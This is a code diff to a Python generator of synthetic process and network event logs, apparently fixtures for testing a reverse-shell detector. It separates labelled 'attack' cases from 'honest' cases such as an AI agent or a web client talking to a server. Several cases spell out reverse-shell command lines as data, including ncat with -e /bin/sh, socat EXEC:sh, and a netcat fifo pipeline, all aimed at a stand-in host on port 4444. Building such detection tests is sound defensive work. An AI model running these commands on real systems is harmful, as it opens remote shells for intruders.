@@ -36,6 +36,11 @@ class Stream:
         return self.add(ms, kind="exec", pid=pid, call="execve", text=path, argv="\x1f".join(argv or [path.rsplit("/")[-1]]), stdin=stdin, stdin_id=stdin_id,
                         stdout=stdout, stdout_id=stdout_id, stderr=stderr, stderr_id=stderr_id, **more)
 
+    def feed(self, ms, written, out, back, argv="/bin/sh", pid=200, by=100, **more):
+        """the shell gets its input from `by`, which has written so many bytes, received `back`, and sent `out`"""
+        return self.add(ms, kind="feed", pid=pid, text="/usr/bin/dash", argv=argv, arg0=by, arg1=written, protocol=6, address="203.0.113.66", port=4444,
+                        connection=1, bytes_out=out, bytes_in=back, flags="answers", **more)
+
     def save(self):
         with open(self.name + ".jsonl", "w") as f:
             for line in sorted(self.lines, key=lambda e: e["at_us"]):
@@ -235,12 +240,35 @@ def shells():
     there("attack-dup2").run(2, "/bin/sh", "/bin/sh", **SOCKET).save()
     there("attack-renamed").run(2, "/tmp/kworker", "kworker", **SOCKET, flags="writable_place").save()
     there("attack-interpreter").run(2, "/usr/bin/python3.11", "python3", **SOCKET).save()
-    there("attack-terminal").run(2, "/bin/bash", "/bin/bash", stdin="tty", stdin_id=3, stdout="tty", stdout_id=3, stderr="tty", stderr_id=3).save()
-    there("attack-node").run(2, "/bin/sh", "/bin/sh", stdin="unix", stdin_id=71, stdout="unix", stdout_id=72, stderr="unix", stderr_id=73).save()
-    there("attack-popen").run(2, "/bin/sh", "/bin/sh", "-i", **PIPES).save()
+    there("attack-terminal").run(2, "/bin/bash", "/bin/bash", stdin="tty", stdin_id=3, stdout="tty", stdout_id=3, stderr="tty", stderr_id=3).feed(300, 9, 120, 9).save()
+    there("attack-node").run(2, "/bin/sh", "/bin/sh", stdin="unix", stdin_id=71, stdout="unix", stdout_id=72, stderr="unix", stderr_id=73).feed(300, 29, 8, 20).save()
+    there("attack-popen").run(2, "/bin/sh", "/bin/sh", "-i", **PIPES).feed(300, 20, 8, 20, argv="/bin/sh\x1f-i").save()
     s = Stream("reverse_shells.attack-fifo").run(4, "/usr/bin/cat", "cat", "/tmp/f", pid=201, stdout_id=71)
     s.run(1, "/bin/sh", "/bin/sh", "-i", pid=202, **PIPES).run(1, "/usr/bin/nc", "nc", "203.0.113.66", "4444", pid=203, stdin="pipe", stdin_id=72, stdout="file", stdout_id=80)
-    s.connect(3, "203.0.113.66", 4444, pid=203).save()
+    s.connect(3, "203.0.113.66", 4444, pid=203).feed(200, 11, 40, 11, argv="/bin/sh\x1f-i", pid=202, by=203).save()
+    s = there("attack-banner-first").run(2, "/bin/sh", "/bin/sh", **PIPES).feed(100, 30, 0, 800)  # what it wrote before is not the shell's
+    s.feed(900, 33, 20, 803).feed(900, 42, 300, 812).save()
+    s = Stream("reverse_shells.attack-unnamed").connect(30, "203.0.113.66", 443).run(2, "/bin/sh", "/bin/sh", **PIPES)
+    for turn in range(1, 4):
+        s.feed(900, 40 * turn, 500 * turn, 700 * turn)
+    s.save()
+    s = there("attack-a-shell-each")
+    for i, command in enumerate(("id", "uname -a", "ls -la /")):
+        s.traffic(900, 1, 100 * i, (i + 1) + sum(len(c) for c in ("id", "uname -a", "ls -la /")[:i + 1]), "203.0.113.66", 4444)
+        s.run(2, "/bin/sh", "sh", "-c", command, pid=300 + i, stdout_id=40 + i)
+    s.save()
+    def channel(name, commands, frame, template="%s", **feed):
+        s, came = there(name).traffic(100, 1, 60, 200, "203.0.113.66", 4444), 200
+        for i, command in enumerate(commands):
+            came += frame + len(command)
+            s.traffic(900, 1, 100 * i + 60, came, "203.0.113.66", 4444)
+            if feed:
+                s.add(1, kind="feed", pid=300 + i, **feed)
+            s.run(1, "/bin/sh", "sh", "-c", template % command, pid=300 + i, stdout_id=40 + i)
+        s.save()
+    channel("attack-channel", ("id", "uname -a", "ls -la /", "df"), 36, flags="as_came")
+    channel("honest-worker-of-a-channel", ("id", "uname -a", "ls -la /", "w"), 36, "printf %%s '%s' | sha256sum | head -c 12")
+    channel("honest-web-client", ("id", "uname -a", "ls -la /", "w"), 150, flags="as_came")
     s = Stream("reverse_shells.attack-two-telnets").run(4, "/usr/bin/telnet", "telnet", "203.0.113.66", "4444", pid=201, stdout_id=71)
     s.run(1, "/bin/sh", "/bin/sh", pid=202, **PIPES).run(1, "/usr/bin/telnet", "telnet", "203.0.113.66", "4445", pid=203, stdin="pipe", stdin_id=72)
     s.connect(3, "203.0.113.66", 4444, pid=201).connect(3, "203.0.113.66", 4445, pid=203).save()
@@ -251,6 +279,16 @@ def shells():
     Stream("reverse_shells.attack-ncat").run(9, "/usr/bin/ncat", "ncat", "203.0.113.66", "4444", "-e", "/bin/sh").save()
     Stream("reverse_shells.attack-socat").run(9, "/usr/bin/socat", "socat", "TCP:203.0.113.66:4444", "EXEC:sh,pty").save()
 
+    s = Stream("reverse_shells.honest-agent").connect(30, "203.0.113.66", 4444, "llm.example").run(2, "/bin/bash", "bash", **PIPES)
+    for turn in range(1, 9):  # its peer is named; an answer is 300 to 700 bytes, a command 10 to 60
+        s.feed(2000, 35 * turn + turn * turn, 1500 * turn * turn, 500 * turn + turn * turn % 70, argv="bash")
+    s.save()
+    s = Stream("reverse_shells.honest-agent-with-a-shell-each").connect(30, "203.0.113.66", 4444, "llm.example")
+    for turn, command in enumerate(("ls", "cat README.md", "make test", "git diff", "make"), 1):
+        s.traffic(2000, 1, 1500 * turn, 300 * turn + len(command), "203.0.113.66", 4444).run(5, "/bin/sh", "sh", "-c", command, pid=200 + turn)
+    s.save()
+    s = Stream("reverse_shells.honest-fed-once").connect(30, "203.0.113.66", 443).run(2, "/bin/bash", "bash", **PIPES)
+    s.feed(900, 4000, 900, 9000, argv="bash").save()  # a script, beside a peer that nobody named
     s = there("honest-client-and-ls").traffic(300, 1, 400, 9000, "203.0.113.66", 4444)
     s.run(5, "/usr/bin/ls", "ls", stdout_id=40).run(5, "/bin/sh", "/bin/sh", "-c", "ls", pid=201, stdout_id=41).run(5, "/usr/bin/ls", "ls", pid=201, stdout_id=41)
     s.run(5, "/usr/bin/bash", "bash", "script.sh", pid=202, **PIPES).run(5, "/usr/bin/bash", "bash", "-ec", "make", pid=203, **PIPES).save()
